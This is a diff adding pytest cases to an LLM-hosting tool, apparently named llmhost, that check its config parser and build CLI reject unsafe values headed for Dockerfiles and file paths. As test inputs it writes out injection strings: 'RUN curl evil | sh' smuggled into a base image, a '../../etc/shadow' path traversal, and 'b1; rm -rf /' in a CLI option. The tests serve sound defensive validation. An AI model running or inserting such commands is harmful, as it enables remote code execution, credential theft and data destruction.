@@ -88,3 +88,40 @@ def test_load_file_errors(tmp_path):
     good = tmp_path / "ok.yaml"
     good.write_text("inference_cores: 4\n")
     assert load_config(str(good)).inference_cores == 4
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        ({"images": {"base_image": "debian:bookworm\nRUN curl evil | sh"}},
+         "images.base_image must be an image reference"),
+        ({"images": {"vllm_version": "latest"}}, "images.vllm_version must be a release"),
+        ({"images": {"llama_ref": "master"}}, "images.llama_ref must be a llama.cpp release tag"),
+        ({"services": {"llama-cpu": {"model": "../../etc/shadow"}}},
+         "services.llama-cpu.model must be a file or directory under models_dir"),
+        ({"services": {"llama-cpu": {"model": "/abs/m.gguf"}}}, "model must be a file"),
+        ({"services": {"vllm-gpu": {"model": "${HOME}/m"}}}, "model must be a file"),
+        ({"models_dir": "/"}, "models_dir must not be /"),
+        ({"models_dir": "models"}, "models_dir must be an absolute path"),
+        ({"project": "Prod Stack"}, "project must be lower-case letters"),
+    ],
+)  # fmt: skip
+def test_values_that_reach_templates_and_paths_are_shaped(data, message):
+    with pytest.raises(LlmhostError) as exc:
+        parse_config(data)
+    assert message in str(exc.value) and exc.value.exit_code == 2
+    assert "\n" not in str(exc.value)
+
+
+def test_cli_options_that_reach_the_dockerfile_are_shaped(tmp_path):
+    from click.testing import CliRunner
+
+    from llmhost.cli.main import cli
+
+    cfg = tmp_path / "llmhost.yaml"
+    cfg.write_text("inference_cores: 1\n")
+    for option, value in (("--llama-ref", "b1; rm -rf /"), ("--base-image", "x\nRUN evil")):
+        result = CliRunner().invoke(cli, ["--config", str(cfg), "build", option, value])
+        assert result.exit_code == 2, result.output
+        assert result.output.startswith(f"llmhost: config: {option} must be")
+        assert len(result.output.strip().splitlines()) == 1
